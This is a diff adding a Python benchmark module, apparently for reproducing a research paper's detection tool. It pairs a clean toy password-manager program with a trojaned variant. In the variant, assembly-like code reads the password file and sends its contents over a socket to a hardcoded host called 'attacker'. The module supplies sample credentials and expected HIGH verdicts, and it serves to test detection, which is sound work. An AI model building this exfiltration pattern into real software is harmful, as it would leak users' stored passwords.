@@ -1,0 +1,132 @@
+"""pwsafe macro benchmark (paper section 8.4.1).
+
+``pwsafe`` is a command-line password database manager.  The clean
+version exports the database to the terminal (no warnings).  The
+trojaned version ("pwunsafe") additionally sends the database contents
+to a hardcoded remote server — the paper's modified binary drew Low
+warnings only because its prototype mis-attributed the data sources; a
+complete tracker sees FILE(.pwsafe.dat, hardcoded) -> SOCKET(hardcoded)
+and grades it High.  EXPERIMENTS.md records this deviation.
+"""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:  # pragma: no cover - typing only
+    from repro.core.hth import HTH
+
+from typing import List
+
+from repro.core.report import Verdict
+from repro.kernel.network import SinkPeer
+from repro.programs.base import Workload
+
+EXFIL_HOST = "duero"
+EXFIL_PORT = 40400
+DB_FILE = "/home/user/.pwsafe.dat"
+
+PWSAFE_SOURCE = r"""
+; pwsafe --exportdb: print the password database to the terminal
+main:
+    mov ebx, dbfile
+    mov ecx, 0
+    call open
+    mov esi, eax
+export_loop:
+    mov ebx, esi
+    mov ecx, buf
+    mov edx, 64
+    call read
+    cmp eax, 0
+    jle export_done
+    mov ebx, 1
+    mov ecx, buf
+    mov edx, eax
+    call write
+    jmp export_loop
+export_done:
+    mov ebx, esi
+    call close
+    mov eax, 0
+    ret
+.data
+dbfile: .asciz "/home/user/.pwsafe.dat"
+buf:    .space 64
+"""
+
+PWUNSAFE_SOURCE = r"""
+; trojaned pwsafe: exports the database AND ships it to a hardcoded host
+main:
+    mov ebx, dbfile
+    mov ecx, 0
+    call open
+    mov esi, eax
+    mov ebx, esi
+    mov ecx, buf
+    mov edx, 192
+    call read
+    mov edi, eax            ; database length
+    mov ebx, esi
+    call close
+    ; the advertised behaviour: print the database
+    mov ebx, 1
+    mov ecx, buf
+    mov edx, edi
+    call write
+    ; the trojan: send it to the attacker
+    mov ebx, attacker
+    call gethostbyname
+    mov ecx, eax
+    call socket
+    mov ebx, eax
+    mov edx, 40400
+    push ebx
+    call connect_addr
+    pop ebx
+    mov ecx, buf
+    mov edx, edi
+    call write
+    call close
+    mov eax, 0
+    ret
+.data
+dbfile:   .asciz "/home/user/.pwsafe.dat"
+attacker: .asciz "duero"
+buf:      .space 192
+"""
+
+
+def _setup(hth: HTH) -> None:
+    hth.fs.write_text(
+        DB_FILE,
+        "site1.example login=alice pass=correcthorse\n"
+        "site2.example login=alice pass=batterystaple\n",
+    )
+    hth.network.add_peer(EXFIL_HOST, EXFIL_PORT, lambda: SinkPeer("attacker"))
+
+
+def pwsafe_workloads() -> List[Workload]:
+    return [
+        Workload(
+            name="pwsafe",
+            program_path="/usr/bin/pwsafe",
+            source=PWSAFE_SOURCE,
+            description="clean password manager exporting its database to "
+                        "the terminal",
+            setup=_setup,
+            argv=["/usr/bin/pwsafe", "--exportdb"],
+            expected_verdict=Verdict.BENIGN,
+        ),
+        Workload(
+            name="pwunsafe",
+            program_path="/usr/bin/pwsafe-mod",
+            source=PWUNSAFE_SOURCE,
+            description="trojaned pwsafe exfiltrating the database to a "
+                        "hardcoded server",
+            setup=_setup,
+            argv=["/usr/bin/pwsafe-mod", "--exportdb"],
+            expected_verdict=Verdict.HIGH,
+            expected_rules=("check_resource_flow",),
+        ),
+    ]
